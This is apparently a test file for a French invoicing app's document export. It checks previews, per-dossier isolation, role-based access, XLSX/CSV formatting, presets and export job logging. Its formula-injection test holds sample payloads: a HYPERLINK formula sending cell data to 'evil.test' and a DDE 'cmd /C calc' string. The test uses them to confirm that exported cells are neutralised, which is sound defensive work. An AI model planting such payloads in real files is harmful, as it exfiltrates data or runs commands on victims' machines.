import { PassThrough } from 'node:stream';
import { Profile } from '@comptoir/schema';
import * as XLSX from 'xlsx';
import { SESSION_COOKIE } from '../../core/cookies';
import { createTestApp, type TestApp, type TestClient } from '../../../test/harness';
import { createDossier, type FixtureDossier } from '../../../test/fixtures';
import { CONVERT_QUOTE, createCustomer, createDoc, createSupplier, ISSUE, line, UPDATE, type Doc } from '../documents/document.test-kit';
import { ExportLog, ExportStatus } from './export.entity';
import { cancelExport, claimExport, writeExport } from './export.service';
import { countDocuments, documentBatches, HistoryTexts, validateColumns, validateFilter } from './export-source';
import type { ExportDocumentRow } from './export-columns';
import { csvWriter } from './export-writers';
import { HistoryEntityType, HistoryEntry, HistoryEntryType } from '../history/history-entry.entity';
import { decodeUserActions, encodeUserActions, MODIFICATION_TYPES, USER_ACTIONS_OVERFLOW, withOneMoreAction, type UserActions } from '../history/document-action-facts';
import { recordHistory } from '../history/history.service';
import { User } from '../identity/user.entity';
import { newId } from '../../core/entity';

const PARTY = 'Crème brûlée & Cie; «Œuvres» è ç €';
const COLUMNS = ['type', 'number', 'date', 'status', 'partyName', 'totalExclVat', 'totalVat', 'totalInclVat', 'createdBy', 'createdAt', 'updatedBy', 'updatedAt', 'issuedBy', 'modificationCount', 'touchedBy', 'sourceNumber'];
const HEADER = ['Type', 'Numéro', 'Date', 'Statut', 'Tiers', 'Total HT', 'TVA', 'Total TTC', 'Créé par', 'Créé le', 'Modifié par', 'Modifié le', 'Émis par', 'Nombre de modifications', 'Utilisateurs intervenus', 'Pièce d’origine'];

const PREVIEW = `query($filter: ExportFilterInput, $columns: [String!]!, $first: Int!) {
  exportPreview(filter: $filter, columns: $columns, first: $first) { totalCount columns { key labelFr type } rows { id cells } }
}`;
const LOGS = '{ exportLogs(first: 50) { totalCount nodes { id kind format status rowsWritten totalRows columns durationMs fileName user { name } filter { types from to } periodFrom } } }';

let t: TestApp;
let d: FixtureDossier;
let other: FixtureDossier;
let base: string;
let quote: Doc;
let invoice: Doc;
let request: Doc;
let ownerName: string;
let advName: string;

function cookie(client: TestClient): Record<string, string> {
  return client.sessionToken ? { cookie: `${SESSION_COOKIE}=${client.sessionToken}` } : {};
}

async function download(client: TestClient, path: string): Promise<Response> {
  return fetch(`${base}${path}`, { headers: cookie(client) });
}

/** The user-action facts kept on the rows of `dossierId`'s documents (this dossier's by default). */
async function storedFacts(dossierId = d.dossier.id) {
  const rows = (await t.app.dataSource.query(
    'SELECT `id`, `actionModificationCount`, `actionIssuedById`, `actionUsers`, `version`, `updatedAt` FROM `documents` WHERE `dossierId` = ?',
    [dossierId],
  )) as { id: string; actionModificationCount: number | string; actionIssuedById: string | null; actionUsers: string; version: number | string; updatedAt: Date | string }[];
  return rows.map((r) => ({
    documentId: r.id,
    modificationCount: Number(r.actionModificationCount),
    issuedById: r.actionIssuedById,
    actionUsers: r.actionUsers,
    actions: decodeUserActions(r.actionUsers),
    version: Number(r.version),
    updatedAt: String(r.updatedAt instanceof Date ? r.updatedAt.toISOString() : r.updatedAt),
  }));
}

function readXlsx(buffer: Buffer) {
  const book = XLSX.read(buffer, { type: 'buffer', cellDates: true, cellNF: true });
  return book;
}

beforeAll(async () => {
  t = await createTestApp();
  base = await t.http();
  d = await createDossier(t, { profiles: [Profile.OWNER, Profile.ADV, Profile.COMMERCIAL, Profile.ACHAT] });
  other = await createDossier(t, { profiles: [Profile.OWNER, Profile.ADV] });
  ownerName = d.as.OWNER!.user.name;
  advName = d.as.ADV!.user.name;
  const owner = d.client(Profile.OWNER);
  const adv = d.client(Profile.ADV);
  const customer = await createCustomer(adv, PARTY);
  // OWNER creates a quote, ADV edits it then converts it to an invoice and issues it.
  quote = await createDoc(owner, 'QUOTE', { partyId: customer.id, lines: [line()] });
  quote = (await adv.data<{ updateDocument: Doc }>(UPDATE, { id: quote.id, version: quote.version, input: { partyId: customer.id, lines: [line({ quantity: 2 })] } })).updateDocument;
  invoice = (await adv.data<{ convertQuoteToInvoice: Doc }>(CONVERT_QUOTE, { id: quote.id, version: quote.version })).convertQuoteToInvoice;
  invoice = (await adv.data<{ issueDocument: Doc }>(ISSUE, { id: invoice.id, version: invoice.version })).issueDocument;
  const supplier = await createSupplier(adv, 'Métaux du Rhône');
  request = await createDoc(adv, 'PRICE_REQUEST', { partyId: supplier.id, lines: [line({ unitPriceCents: 12_345, vatRate: 5.5 })] });
  // Another dossier's document, never to be seen from this one.
  const theirs = await createCustomer(other.client(Profile.ADV), 'Client de l’autre dossier');
  await createDoc(other.client(Profile.ADV), 'QUOTE', { partyId: theirs.id, lines: [line()] });
});

afterAll(() => t.close());

describe('column catalogue and preview', () => {
  it('lists every column with French labels, including the user-action fields', async () => {
    const data = await d.client(Profile.ADV).data<{ exportColumns: { key: string; labelFr: string; type: string; group: string }[] }>(
      '{ exportColumns { key labelFr labelEn type group defaultSelected description } }',
    );
    const byKey = new Map(data.exportColumns.map((c) => [c.key, c]));
    expect(byKey.get('createdBy')).toMatchObject({ labelFr: 'Créé par', group: 'USER_ACTION', type: 'TEXT' });
    expect(byKey.get('updatedAt')).toMatchObject({ labelFr: 'Modifié le', type: 'DATETIME' });
    expect(byKey.get('totalInclVat')).toMatchObject({ type: 'MONEY' });
    expect(byKey.get('date')).toMatchObject({ type: 'DATE' });
    for (const key of ['issuedBy', 'issuedAt', 'modificationCount', 'touchedBy', 'actionsByUser', 'sourceNumber', 'dueDate']) expect(byKey.has(key)).toBe(true);
  });

  it('previews the first rows with the total count, this dossier only, with who created and modified', async () => {
    const { exportPreview } = await d.client(Profile.OWNER).data<{ exportPreview: { totalCount: number; rows: { id: string; cells: (string | null)[] }[] } }>(PREVIEW, {
      filter: null,
      columns: ['number', 'createdBy', 'updatedBy', 'totalInclVat', 'modificationCount', 'issuedBy', 'sourceNumber'],
      first: 2,
    });
    expect(exportPreview.totalCount).toBe(3);
    expect(exportPreview.rows).toHaveLength(2);
    const all = await d.client(Profile.OWNER).data<{ exportPreview: { rows: { id: string; cells: (string | null)[] }[] } }>(PREVIEW, {
      filter: { types: ['INVOICE'] },
      columns: ['number', 'createdBy', 'updatedBy', 'totalInclVat', 'modificationCount', 'issuedBy', 'sourceNumber'],
      first: 10,
    });
    expect(all.exportPreview.rows).toEqual([{ id: invoice.id, cells: [invoice.number, advName, advName, String(invoice.totalInclVatCents), '1', advName, quote.number] }]);
  });

  it('filters by creator and last modifier', async () => {
    const byOwner = await d.client(Profile.ADV).data<{ exportPreview: { totalCount: number; rows: { id: string }[] } }>(PREVIEW, {
      filter: { createdById: d.as.OWNER!.user.id },
      columns: ['number'],
      first: 10,
    });
    expect(byOwner.exportPreview.rows.map((r) => r.id)).toEqual([quote.id]);
    const modifiedByOwner = await d.client(Profile.ADV).data<{ exportPreview: { totalCount: number } }>(PREVIEW, {
      filter: { updatedById: d.as.OWNER!.user.id },
      columns: ['number'],
      first: 10,
    });
    expect(modifiedByOwner.exportPreview.totalCount).toBe(0);
  });

  it('reads a batch with a constant number of queries, whatever its size', async () => {
    const client = d.client(Profile.ADV);
    const run = (first: number) => t.queries.measure(() => client.data(PREVIEW, { filter: null, columns: COLUMNS, first }));
    const one = await run(1);
    const three = await run(3);
    expect(three.queries).toBe(one.queries);
  });

  it('keeps each document\'s user-action facts equal to what its history entries say', async () => {
    const entries = await t.app.dataSource.getRepository(HistoryEntry).find({ where: { dossierId: d.dossier.id, entityType: HistoryEntityType.DOCUMENT }, order: { sequence: 'ASC' } });
    const expected = new Map<string, { modificationCount: number; issuedById: string | null; actions: [string, number][] }>();
    for (const e of entries) {
      const facts = expected.get(e.documentId!) ?? { modificationCount: 0, issuedById: null, actions: [] };
      expected.set(e.documentId!, facts);
      if (MODIFICATION_TYPES.includes(e.type)) facts.modificationCount += 1;
      if (e.type === HistoryEntryType.ISSUED) facts.issuedById = e.userId;
      const mine = facts.actions.find(([id]) => id === e.userId);
      if (mine) mine[1] += 1;
      else facts.actions.push([e.userId, 1]);
    }
    const stored = await storedFacts();
    expect(stored.length).toBe(expected.size);
    for (const facts of stored) expect({ modificationCount: facts.modificationCount, issuedById: facts.issuedById, actions: facts.actions }).toEqual(expected.get(facts.documentId));
    // The converted and issued invoice: ADV touched it (conversion counts for the new document too), and issued it.
    expect(expected.get(invoice.id)?.issuedById).toBe(d.as.ADV!.user.id);
  });

  it('reads every document once in (date, id) order across batches, whole exports and limited reads alike', async () => {
    const ctx = await d.client(Profile.ADV).context();
    const columns = validateColumns(ctx, ['number', 'createdBy', 'touchedBy']);
    const expected = [quote, invoice, request].sort((a, b) => a.date.localeCompare(b.date) || (a.id < b.id ? -1 : 1)).map((doc) => doc.id);
    const read = async (options: { batchSize: number; limit?: number }) => {
      const sizes: number[] = [];
      const rows: { id: string; createdByName?: string | null; touchedBy?: string | null }[] = [];
      for await (const batch of documentBatches(ctx, validateFilter({}), columns, options)) {
        sizes.push(batch.length);
        rows.push(...batch);
      }
      return { sizes, rows };
    };
    // Whole export (one streamed query on MySQL/MariaDB, keyset pages on SQLite) and a limited read (keyset).
    for (const options of [{ batchSize: 2 }, { batchSize: 2, limit: 10 }]) {
      const { sizes, rows } = await read(options);
      expect(sizes).toEqual([2, 1]);
      expect(rows.map((r) => r.id)).toEqual(expected);
      expect(rows.find((r) => r.id === quote.id)).toMatchObject({ createdByName: ownerName, touchedBy: `${ownerName}, ${advName}` });
    }
    expect((await read({ batchSize: 3 })).sizes).toEqual([3]);
  });

  it('gives each document the history texts of its own facts, across the batches of one export', async () => {
    const ctx = await d.client(Profile.ADV).context();
    const columns = validateColumns(ctx, ['number', 'issuedBy', 'modificationCount', 'touchedBy', 'actionsByUser']);
    const names = new Map([
      [d.as.OWNER!.user.id, ownerName],
      [d.as.ADV!.user.id, advName],
    ]);
    const facts = await storedFacts();
    const expected = new Map(
      facts.map((f) => [
        f.documentId,
        {
          issuedByName: f.issuedById ? names.get(f.issuedById) : null,
          modificationCount: f.modificationCount,
          touchedBy: f.actions.map(([userId]) => names.get(userId)).join(', '),
          actionsByUser: f.actions.map(([userId, n]) => `${names.get(userId)} : ${n}`).join(', '),
        },
      ]),
    );
    // The three documents' facts differ, so a text shared between two of them would be wrong.
    expect(new Set([...expected.values()].map((e) => e.actionsByUser)).size).toBe(3);
    expect(expected.get(quote.id)?.touchedBy).toBe(`${ownerName}, ${advName}`);
    // One row per batch: the export's texts (kept per stored value) are reused from batch to batch.
    for (const options of [{ batchSize: 1 }, { batchSize: 1, limit: 10 }]) {
      const rows: ExportDocumentRow[] = [];
      for await (const batch of documentBatches(ctx, validateFilter({}), columns, options)) rows.push(...batch);
      expect(rows).toHaveLength(3);
      const pick = (r: ExportDocumentRow) => ({ id: r.id, issuedByName: r.issuedByName, modificationCount: r.modificationCount, touchedBy: r.touchedBy, actionsByUser: r.actionsByUser });
      expect(rows.map(pick)).toEqual(rows.map((r) => ({ id: r.id, ...expected.get(r.id) })));
    }
  });

  it('frees its database connection when an export stops before the end', async () => {
    const ctx = await d.client(Profile.ADV).context();
    const columns = validateColumns(ctx, ['number']);
    // More early stops than the pool has connections: a leaked one would make the last query wait forever.
    for (let i = 0; i < 12; i++) {
      for await (const batch of documentBatches(ctx, validateFilter({}), columns, { batchSize: 1 })) {
        expect(batch).toHaveLength(1);
        break;
      }
    }
    expect(await countDocuments(ctx, validateFilter({}))).toBe(3);
  });

  it('answers BAD_USER_INPUT with the field path for bad filters and columns', async () => {
    const client = d.client(Profile.ADV);
    const unknownColumn = await client.exec(PREVIEW, { filter: null, columns: ['number', 'salary'], first: 5 });
    expect(unknownColumn.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'columns.1' });
    const backwards = await client.exec(PREVIEW, { filter: { from: '2026-03-01', to: '2026-02-01' }, columns: ['number'], first: 5 });
    expect(backwards.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'filter.from' });
    // A day that does not exist is refused by the LocalDate scalar (no field path, as any malformed variable).
    const badDay = await client.exec(PREVIEW, { filter: { from: '2026-02-30' }, columns: ['number'], first: 5 });
    expect(badDay.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT' });
    const none = await client.exec(PREVIEW, { filter: null, columns: [], first: 5 });
    expect(none.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'columns' });
    expect(await client.errorCode(PREVIEW, { filter: { types: ['PAYSLIP'] }, columns: ['number'], first: 5 })).toBe('BAD_USER_INPUT');
  });
});

describe('authorization', () => {
  const OPERATIONS: [string, Record<string, unknown>][] = [
    ['{ exportColumns { key } }', {}],
    [PREVIEW, { filter: null, columns: ['number'], first: 5 }],
    ['{ exportPresets { id } }', {}],
    ['mutation { saveExportPreset(input: { name: "x", columns: ["number"] }) { id } }', {}],
    [LOGS, {}],
    ['{ actionSummary { rows { created } } }', {}],
    ['mutation { startDocumentsExport(input: { format: XLSX, columns: ["number"] }) { id } }', {}],
  ];

  it.each([Profile.COMMERCIAL, Profile.ACHAT])('refuses every export field to %s (FORBIDDEN) and the downloads (403)', async (profile) => {
    const client = d.client(profile);
    for (const [query, variables] of OPERATIONS) expect(await client.errorCode(query, variables)).toBe('FORBIDDEN');
    for (const path of ['/api/exports/documents.xlsx?columns=number', '/api/exports/documents.csv?columns=number', '/api/exports/action-summary.xlsx']) {
      const res = await download(client, path);
      expect(res.status).toBe(403);
      expect(await res.json()).toMatchObject({ error: { code: 'FORBIDDEN' } });
    }
  });

  it('answers 401 to a download without a session, UNAUTHENTICATED to the fields', async () => {
    const res = await fetch(`${base}/api/exports/documents.xlsx?columns=number`);
    expect(res.status).toBe(401);
    expect(await t.client().errorCode('{ exportColumns { key } }')).toBe('UNAUTHENTICATED');
  });
});

describe('.xlsx download', () => {
  it('streams a workbook with typed cells, the user-action columns and a Paramètres sheet', async () => {
    // The file name and "Exporté le" are in Paris time (as the screen), not UTC: the minute is one of these.
    const parisMinutes = [new Date(), new Date(Date.now() + 60_000)].map((at) => {
      const part = (type: string) => new Intl.DateTimeFormat('fr-FR', { timeZone: 'Europe/Paris', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).formatToParts(at).find((p) => p.type === type)!.value;
      return { file: `${part('year')}-${part('month')}-${part('day')}-${part('hour')}h${part('minute')}`, sheet: `${part('day')}/${part('month')}/${part('year')} ${part('hour')}:${part('minute')}` };
    });
    const res = await download(d.client(Profile.ADV), `/api/exports/documents.xlsx?columns=${COLUMNS.join(',')}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('spreadsheetml');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="liste-des-pieces-.*\.xlsx"/);
    const book = readXlsx(Buffer.from(await res.arrayBuffer()));
    expect(book.SheetNames).toEqual(['Liste des pièces', 'Paramètres']);
    const sheet = book.Sheets['Liste des pièces'];
    const rows = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
    expect(rows[0]).toEqual(HEADER);
    expect(rows).toHaveLength(1 + 3);
    const byNumber = new Map(rows.slice(1).map((r) => [r[1], r]));
    const inv = byNumber.get(invoice.number)!;
    expect(inv[0]).toBe('Facture');
    expect(inv[3]).toBe('Émise');
    expect(inv[4]).toBe(PARTY);
    expect(inv[2]).toBeInstanceOf(Date);
    expect((inv[2] as Date).getTime()).toBeGreaterThan(0);
    expect(inv[5]).toBe(invoice.totalExclVatCents / 100);
    expect(inv[7]).toBe(invoice.totalInclVatCents / 100);
    expect(inv[8]).toBe(advName);
    expect(inv[9]).toBeInstanceOf(Date);
    expect(inv[10]).toBe(advName);
    expect(inv[12]).toBe(advName);
    expect(inv[15]).toBe(quote.number);
    const q = byNumber.get(quote.number)!;
    expect(q[8]).toBe(ownerName);
    expect(q[10]).toBe(advName);
    expect(q[13]).toBeGreaterThanOrEqual(2); // edited, then accepted by the conversion
    expect(q[14]).toBe(`${ownerName}, ${advName}`);
    const pr = byNumber.get(request.number)!;
    expect(pr[6]).toBe(request.totalVatCents / 100);
    // Cell types and formats: dates are dates, amounts numbers with a euro format.
    const dateCell = sheet['C2'];
    const moneyCell = sheet['H2'];
    expect(dateCell.t).toBe('d');
    expect(String(dateCell.z)).toContain('dd/mm/yyyy');
    expect(moneyCell.t).toBe('n');
    expect(String(moneyCell.z)).toContain('€');
    expect(sheet['!autofilter']?.ref).toBe('A1:P1');
    const params = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Paramètres'], { header: 1 });
    const asMap = new Map(params.map((r) => [r[0], r[1]]));
    expect(asMap.get('Exporté par')).toBe(advName);
    const fileName = /filename="([^"]+)"/.exec(res.headers.get('content-disposition') ?? '')![1];
    expect(parisMinutes.some((m) => fileName === `liste-des-pieces-${m.file}.xlsx`)).toBe(true);
    expect(parisMinutes.some((m) => String(asMap.get('Exporté le')).startsWith(m.sheet))).toBe(true);
    expect(asMap.get('Nombre de lignes')).toBe(3);
    expect(String(asMap.get('Colonnes'))).toContain('Créé par');
  });

  it('applies the filters of the URL and never shows another dossier’s rows', async () => {
    const res = await download(d.client(Profile.OWNER), '/api/exports/documents.xlsx?columns=number,partyName&types=PRICE_REQUEST');
    const rows = XLSX.utils.sheet_to_json<unknown[]>(readXlsx(Buffer.from(await res.arrayBuffer())).Sheets['Liste des pièces'], { header: 1 });
    expect(rows.slice(1)).toEqual([[request.number, 'Métaux du Rhône']]);
    const theirs = await download(other.client(Profile.OWNER), '/api/exports/documents.xlsx?columns=number,partyName');
    const theirRows = XLSX.utils.sheet_to_json<unknown[]>(readXlsx(Buffer.from(await theirs.arrayBuffer())).Sheets['Liste des pièces'], { header: 1 });
    expect(theirRows.slice(1).map((r) => r[1])).toEqual(['Client de l’autre dossier']);
  });

  it('answers 400 with the field for a bad filter in the URL', async () => {
    const res = await download(d.client(Profile.ADV), '/api/exports/documents.xlsx?columns=number&types=INVOICE,PAYSLIP');
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'filter.types.1' } });
    const cols = await download(d.client(Profile.ADV), '/api/exports/documents.csv?columns=number,nope');
    expect(await cols.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'columns.1' } });
  });
});

describe('CSV download', () => {
  it('writes UTF-8 with BOM, `;`, decimal comma, CRLF, and round-trips accents and quotes', async () => {
    const res = await download(d.client(Profile.ADV), '/api/exports/documents.csv?columns=number,partyName,totalInclVat,date,createdBy,updatedBy&types=INVOICE');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('Numéro;Tiers;Total TTC;Date;Créé par;Modifié par');
    expect(lines[lines.length - 1]).toBe('');
    const euros = `${Math.floor(invoice.totalInclVatCents / 100)},${String(invoice.totalInclVatCents % 100).padStart(2, '0')}`;
    const [y, m, day] = invoice.date.split('-');
    expect(lines[1]).toBe(`${invoice.number};"${PARTY}";${euros};${day}/${m}/${y};${advName};${advName}`);
    // An independent reader finds the same cells.
    const book = XLSX.read(text, { type: 'string', FS: ';', raw: true });
    const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]], { header: 1, raw: true });
    expect(rows[1][1]).toBe(PARTY);
  });
});

describe('CSV formula injection', () => {
  const EVIL = ['=HYPERLINK("http://evil.test/?x="&A1;"Cliquez")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+33 6 12 34 56 78', '-2+3', '\tTabulé', '\rRetour'];

  it('neutralises every cell that a spreadsheet would take for a formula (OWASP: a leading quote)', async () => {
    const adv = other.client(Profile.ADV);
    for (const name of EVIL) {
      const customer = await createCustomer(adv, name);
      await createDoc(adv, 'QUOTE', { partyId: customer.id, lines: [line()] });
    }
    const res = await download(adv, '/api/exports/documents.csv?columns=partyName&types=QUOTE');
    const text = Buffer.from(await res.arrayBuffer()).toString('utf8').slice(1);
    const book = XLSX.read(text, { type: 'string', FS: ';', raw: true });
    const cells = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]], { header: 1, raw: true }).slice(1).map((r) => r[0]);
    // Party names are trimmed on input, so the leading tab and CR do not survive as such.
    for (const name of EVIL.map((n) => n.trim())) expect(cells).toContain(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps negative amounts and counts as numbers, and quotes text cells starting with -, tab or CR', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const writer = csvWriter(out, [
      { labelFr: 'Montant', type: 'money', width: 10 },
      { labelFr: 'Nombre', type: 'integer', width: 10 },
      { labelFr: 'Texte', type: 'text', width: 10 },
    ]);
    await writer.writeBatch([
      [-123_456, -3, '-12'],
      [5, 0, '\t=1+1'],
      [0, 1, '\r@x'],
      [0, 1, 'Dupont'],
    ]);
    await writer.finish([]);
    const lines = Buffer.concat(chunks).toString('utf8').slice(1).split('\r\n');
    expect(lines.slice(1, 5)).toEqual(["-1234,56;-3;'-12", "0,05;0;'\t=1+1", `0,00;1;"'\r@x"`, '0,00;1;Dupont']);
  });
});

describe('presets', () => {
  const SAVE = 'mutation($input: ExportPresetInput!) { saveExportPreset(input: $input) { id name columns shared mine owner { name } } }';
  const LIST = '{ exportPresets { id name columns shared mine } }';

  it('keeps private presets to their owner and shares the others with the dossier', async () => {
    const adv = d.client(Profile.ADV);
    const owner = d.client(Profile.OWNER);
    const mine = (await adv.data<{ saveExportPreset: { id: string; owner: { name: string } } }>(SAVE, { input: { name: 'Suivi ADV', columns: ['number', 'createdBy', 'updatedBy'], shared: false } })).saveExportPreset;
    expect(mine.owner.name).toBe(advName);
    const shared = (await adv.data<{ saveExportPreset: { id: string } }>(SAVE, { input: { name: 'Commun', columns: ['number', 'totalInclVat'], shared: true } })).saveExportPreset;
    const advList = (await adv.data<{ exportPresets: { id: string; mine: boolean }[] }>(LIST)).exportPresets;
    expect(advList.map((p) => p.id).sort()).toEqual([mine.id, shared.id].sort());
    const ownerList = (await owner.data<{ exportPresets: { id: string; mine: boolean }[] }>(LIST)).exportPresets;
    expect(ownerList).toEqual([{ id: shared.id, name: 'Commun', columns: ['number', 'totalInclVat'], shared: true, mine: false }]);
    expect((await other.client(Profile.ADV).data<{ exportPresets: unknown[] }>(LIST)).exportPresets).toEqual([]);
    // Saving again under the same name replaces the preset.
    const again = (await adv.data<{ saveExportPreset: { id: string; columns: string[] } }>(SAVE, { input: { name: 'Suivi ADV', columns: ['createdBy'], shared: false } })).saveExportPreset;
    expect(again).toMatchObject({ id: mine.id, columns: ['createdBy'] });
    // Another's private preset is not found; a shared one may be removed by OWNER or ADV.
    const del = 'mutation($id: ID!) { deleteExportPreset(id: $id) }';
    expect(await owner.errorCode(del, { id: mine.id })).toBe('NOT_FOUND');
    expect(await other.client(Profile.OWNER).errorCode(del, { id: shared.id })).toBe('NOT_FOUND');
    expect((await owner.data<{ deleteExportPreset: string }>(del, { id: shared.id })).deleteExportPreset).toBe(shared.id);
    const bad = await adv.exec(SAVE, { input: { name: ' ', columns: ['number'], shared: false } });
    expect(bad.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.name' });
  });
});

describe('action summary', () => {
  interface Row { user: { name: string }; documentType: string | null; created: number; modified: number; issued: number; converted: number; total: number }
  const Q = 'query($from: LocalDate, $to: LocalDate) { actionSummary(from: $from, to: $to) { from to rows { user { name } documentType created modified issued converted deleted total } } }';

  it('counts each user’s actions per document type over the period', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const { actionSummary } = await d.client(Profile.OWNER).data<{ actionSummary: { rows: Row[] } }>(Q, { from: '2000-01-01', to: '2100-12-31' });
    const find = (name: string, type: string) => actionSummary.rows.find((r) => r.user.name === name && r.documentType === type);
    expect(find(ownerName, 'QUOTE')).toMatchObject({ created: 1, modified: 0, issued: 0, converted: 0 });
    expect(find(advName, 'QUOTE')).toMatchObject({ created: 0, converted: 1 });
    expect(find(advName, 'QUOTE')!.modified).toBeGreaterThanOrEqual(1);
    expect(find(advName, 'INVOICE')).toMatchObject({ created: 1, issued: 1, converted: 0 });
    expect(find(advName, 'PRICE_REQUEST')).toMatchObject({ created: 1 });
    expect(actionSummary.rows.every((r) => r.user.name.endsWith(d.dossier.name))).toBe(true);
    const past = await d.client(Profile.OWNER).data<{ actionSummary: { rows: Row[] } }>(Q, { from: '2000-01-01', to: '2000-12-31' });
    expect(past.actionSummary.rows).toEqual([]);
    expect(today).toMatch(/^\d{4}/);
    const backwards = await d.client(Profile.OWNER).exec(Q, { from: '2026-02-01', to: '2026-01-01' });
    expect(backwards.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'from' });
  });

  it('exports the summary to .xlsx', async () => {
    const res = await download(d.client(Profile.ADV), '/api/exports/action-summary.xlsx?from=2000-01-01');
    expect(res.status).toBe(200);
    const book = readXlsx(Buffer.from(await res.arrayBuffer()));
    const rows = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Récapitulatif des actions'], { header: 1 });
    expect(rows[0]).toEqual(['Utilisateur', 'Type de pièce', 'Créées', 'Modifiées', 'Émises', 'Converties', 'Supprimées', 'Total des actions']);
    expect(rows).toContainEqual([advName, 'Facture', 1, 0, 1, 0, 0, expect.any(Number)]);
  });
});

describe('export jobs and the log', () => {
  const START = 'mutation($input: DocumentsExportInput!) { startDocumentsExport(input: $input) { id status totalRows rowsWritten downloadUrl } }';

  it('starts an export, downloads it once, and records it in the log', async () => {
    const adv = d.client(Profile.ADV);
    const job = (await adv.data<{ startDocumentsExport: { id: string; status: string; totalRows: number; downloadUrl: string } }>(START, { input: { format: 'CSV', columns: ['number', 'createdBy'], filter: { types: ['QUOTE', 'INVOICE'] } } })).startDocumentsExport;
    expect(job).toMatchObject({ status: 'PENDING', totalRows: 2 });
    // Someone else cannot take it, even in the same dossier.
    expect((await download(d.client(Profile.OWNER), job.downloadUrl)).status).toBe(404);
    const res = await download(adv, job.downloadUrl);
    expect(res.status).toBe(200);
    expect((await res.text()).split('\r\n').filter(Boolean)).toHaveLength(3);
    expect((await download(adv, job.downloadUrl)).status).toBe(404);
    const after = await adv.data<{ exportJob: { status: string; rowsWritten: number } }>('query($id: ID!) { exportJob(id: $id) { status rowsWritten } }', { id: job.id });
    expect(after.exportJob).toEqual({ status: 'COMPLETED', rowsWritten: 2 });
    const { exportLogs } = await d.client(Profile.OWNER).data<{ exportLogs: { totalCount: number; nodes: { id: string; status: string; format: string; user: { name: string }; columns: string[]; filter: { types: string[] } | null; durationMs: number | null }[] } }>(LOGS);
    const entry = exportLogs.nodes.find((n) => n.id === job.id)!;
    expect(entry).toMatchObject({ status: 'COMPLETED', format: 'CSV', user: { name: advName }, columns: ['number', 'createdBy'], filter: { types: ['QUOTE', 'INVOICE'] } });
    expect(entry.durationMs).not.toBeNull();
    // Every earlier download is logged too; none of another dossier's.
    expect(exportLogs.nodes.filter((n) => n.status === 'COMPLETED').length).toBeGreaterThanOrEqual(5);
    expect((await other.client(Profile.OWNER).data<{ exportLogs: { nodes: { id: string }[] } }>(LOGS)).exportLogs.nodes.map((n) => n.id)).not.toContain(job.id);
  });

  it('cancels a pending export, and stops a running one at its next check', async () => {
    const adv = d.client(Profile.ADV);
    const pending = (await adv.data<{ startDocumentsExport: { id: string; downloadUrl: string } }>(START, { input: { format: 'XLSX', columns: ['number'] } })).startDocumentsExport;
    expect(await d.client(Profile.OWNER).errorCode('mutation($id: ID!) { cancelExport(id: $id) { status } }', { id: pending.id })).toBe('FORBIDDEN');
    const cancelled = await adv.data<{ cancelExport: { status: string } }>('mutation($id: ID!) { cancelExport(id: $id) { status } }', { id: pending.id });
    expect(cancelled.cancelExport.status).toBe('CANCELLED');
    expect((await download(adv, pending.downloadUrl)).status).toBe(404);

    const running = (await adv.data<{ startDocumentsExport: { id: string } }>(START, { input: { format: 'XLSX', columns: ['number'] } })).startDocumentsExport;
    const ctx = await adv.context();
    const log = await claimExport(ctx, running.id);
    // The cancel may come from any process: it only marks the row.
    await cancelExport(await adv.context(), running.id);
    const sink = new PassThrough();
    sink.resume();
    const outcome = await writeExport(ctx, log, sink);
    expect(outcome.complete).toBe(false);
    const stored = await t.app.dataSource.getRepository(ExportLog).findOneByOrFail({ id: running.id, dossierId: log.dossierId });
    expect(stored.status).toBe(ExportStatus.CANCELLED);
    expect(stored.finishedAt).not.toBeNull();
  });
});

describe("user-action facts on the document's row", () => {
  it('encodes the users in order of first action, and marks instead of cutting users that do not fit', () => {
    const actions: UserActions[] = [
      ['0190a1b2-0000-7000-8000-000000000001', 2],
      ['0190a1b2-0000-7000-8000-000000000002', 1],
    ];
    expect(decodeUserActions(encodeUserActions(actions))).toEqual(actions);
    expect(decodeUserActions('')).toEqual([]);
    expect(withOneMoreAction(withOneMoreAction(encodeUserActions(actions), actions[1][0]), 'u3')).toBe(encodeUserActions([actions[0], [actions[1][0], 2], ['u3', 1]]));
    let stored = '';
    let fitted = 0;
    for (let i = 0; i < 60; i++) {
      stored = withOneMoreAction(stored, `0190a1b2-0000-7000-8000-${String(i).padStart(12, '0')}`);
      if (stored !== USER_ACTIONS_OVERFLOW) fitted = i + 1;
    }
    // About 50 users fit in the column's 2,000 characters; once marked, a document stays marked.
    expect(fitted).toBeGreaterThanOrEqual(48);
    expect(stored).toBe(USER_ACTIONS_OVERFLOW);
    expect(withOneMoreAction(stored, 'u1')).toBe(USER_ACTIONS_OVERFLOW);
  });

